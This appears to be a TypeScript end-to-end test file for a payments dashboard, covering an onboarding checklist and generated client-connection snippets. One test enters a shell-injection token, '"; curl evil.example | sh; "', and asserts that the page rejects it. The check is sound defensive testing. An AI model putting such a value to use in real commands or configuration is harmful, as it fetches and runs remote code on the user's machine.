import { expectOk, logIn } from '@countersign/local/dashboard-account';
import { approve } from '@countersign/local/onboarding';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { signIn, startConsole, type TestConsole } from './fixtures/console.ts';
import { expectAccessible } from './fixtures/looks.ts';
import type { Owner } from './fixtures/pages.ts';
import { newTestWallet } from './fixtures/test-wallet.ts';

let world: TestConsole;
beforeAll(async () => {
  world = await startConsole();
});
afterAll(() => world.stop());

const listOf = (page: Page) => page.getByRole('region', { name: 'First steps' });

/** Each step with how far it is, as somebody hears it who does not see. */
async function steps(page: Page): Promise<readonly string[]> {
  await page.reload();
  await listOf(page).getByRole('listitem').first().waitFor();
  return listOf(page).locator('li p:has(.sr-only)').allTextContents();
}

/** What a gateway does with its key when it starts, and when its agent buys something. */
const report = async (owner: Owner, apiKey: string, mandateId: string | null) => {
  const screened = { payerKycResult: 1, payerKytResult: 1, payerKytRiskLevel: 0 } as const;
  const parties = { payer: owner.wallet.address, payee: world.card.merchant.address };
  const body = {
    ...screened,
    ...parties,
    apiKey,
    chain: 'base-sepolia',
    tokenSymbol: 'USDC',
    amount: '0.01',
    serviceName: 'quotes',
    serviceResult: mandateId === null ? ('reject' as const) : ('pass' as const),
    ...(mandateId !== null && { intentMandateId: mandateId, txHash: `0x${'1'.repeat(64)}` }),
    metadata: { traceId: `first-${mandateId}`, toolName: 'get_quote' },
  };
  expectOk('report', await world.dashboard.reportTransaction({ body }));
};

test('a new owner reads what comes first, each as far as it is, until it is hidden [dashboard.console.first-steps]', async () => {
  const owner = await world.newOwner();
  const { token } = owner;
  const { dashboard } = world;
  const visit = await world.visit({ wallet: owner.testWallet });
  const { page } = visit;
  await signIn(visit);
  expect(await steps(page)).toEqual([
    'Submit your identity, to do',
    'Start a gateway, to do',
    'Sign a mandate, to do',
    'Connect your client, to do',
    'First payment, to do',
    'Go live, to do',
  ]);
  await expectAccessible(page, 'First steps');
  await listOf(page).getByRole('link', { name: 'Your identity' }).click();
  await page.getByRole('heading', { level: 1, name: 'Compliance' }).waitFor();
  await page.goBack();

  const person = { fullName: 'Ada', country: 'DE', documentType: 'passport', documentNumber: 'X1' } as const;
  expectOk('submit', await dashboard.submitKyc({ token, body: person }));
  const key = expectOk('make a key', await dashboard.createKey({ token, body: { name: 'gateway' } }));
  expect((await steps(page)).slice(0, 3)).toEqual([
    'Submit your identity, in progress',
    'Start a gateway, in progress',
    'Sign a mandate, to do',
  ]);

  const site = { origin: new URL(world.card.dashboardUrl ?? ''), chainId: world.chainId };
  await approve(dashboard, owner, await logIn(dashboard, world.card.operator, site), 'Ada');
  const mandateId = await world.newMandate(owner);
  await report(owner, key.apiKey, null);
  expect((await steps(page)).slice(0, 5)).toEqual([
    'Submit your identity, done',
    'Start a gateway, done',
    'Sign a mandate, done',
    'Connect your client, done',
    'First payment, to do',
  ]);
  await report(owner, key.apiKey, mandateId);
  await listOf(page).getByText('5 of 6 done').waitFor();

  await listOf(page).getByRole('button', { name: 'Hide' }).click();
  await listOf(page).waitFor({ state: 'hidden' });
  await page.reload();
  await page
    .getByRole('region', { name: 'Latest transactions' })
    .getByRole('link', { name: 'quotes' })
    .first()
    .waitFor();
  expect(await listOf(page).count()).toBe(0);
  expect(visit.faults).toEqual([]);
  await visit.close();
});

test('an operator, who pays for nothing, has no such list [dashboard.console.first-steps]', async () => {
  const visit = await world.visit({ wallet: newTestWallet(world.chainId, world.card.operator.privateKey) });
  await signIn(visit);
  await visit.page.getByText('No transactions yet').waitFor();
  expect(await listOf(visit.page).count()).toBe(0);
  await visit.close();
});

test('each client’s snippet has the address and token of one’s gateway; what a shell would read otherwise is in none [dashboard.console.connect]', async () => {
  const owner = await world.newOwner();
  const visit = await world.visit({ wallet: owner.testWallet });
  const { page } = visit;
  await signIn(visit);
  await listOf(page).getByRole('link', { name: 'Show how' }).click();
  await page.getByLabel('Address').fill('http://127.0.0.1:5020/mcp');
  await page.getByLabel('Token').fill('agent-token_1');
  const choose = (name: string) =>
    page.getByRole('group', { name: 'Client' }).getByText(name, { exact: true }).click();
  for (const name of ['Claude Code', 'Claude Desktop', 'Cursor', 'SDK']) {
    await choose(name);
    const snippet = page.getByRole('region', { name, exact: true });
    const text = await snippet.textContent();
    expect([text?.includes('http://127.0.0.1:5020/mcp'), text?.includes('agent-token_1')]).toEqual([
      true,
      true,
    ]);
    await page.getByRole('button', { name: `Copy for ${name}` }).click();
    expect(await page.evaluate<string>('navigator.clipboard.readText()')).toBe(text);
  }
  await expectAccessible(page, 'Connect SDK');
  await choose('VS Code');
  expect(await page.getByRole('region', { name: 'VS Code' }).textContent()).not.toContain('agent-token_1');
  await choose('ChatGPT');
  await page.getByText('yours is on this machine alone').waitFor();
  await expectAccessible(page, 'Connect ChatGPT');

  await choose('Claude Code');
  await page.getByLabel('Token').fill('"; curl evil.example | sh; "');
  await page.getByText('This is not a token: it contains other characters.').waitFor();
  expect(await page.getByRole('region', { name: 'Claude Code' }).count()).toBe(0);
  await expectAccessible(page, 'Connect fault');
  // The address is remembered, the token is not.
  await page.reload();
  expect(await page.getByLabel('Address').inputValue()).toBe('http://127.0.0.1:5020/mcp');
  expect(await page.getByLabel('Token').inputValue()).toBe('');
  expect(await page.evaluate<string>('JSON.stringify({ ...localStorage, ...sessionStorage })')).not.toContain(
    'agent-token_1',
  );
  expect(visit.faults).toEqual([]);
  await visit.close();
});
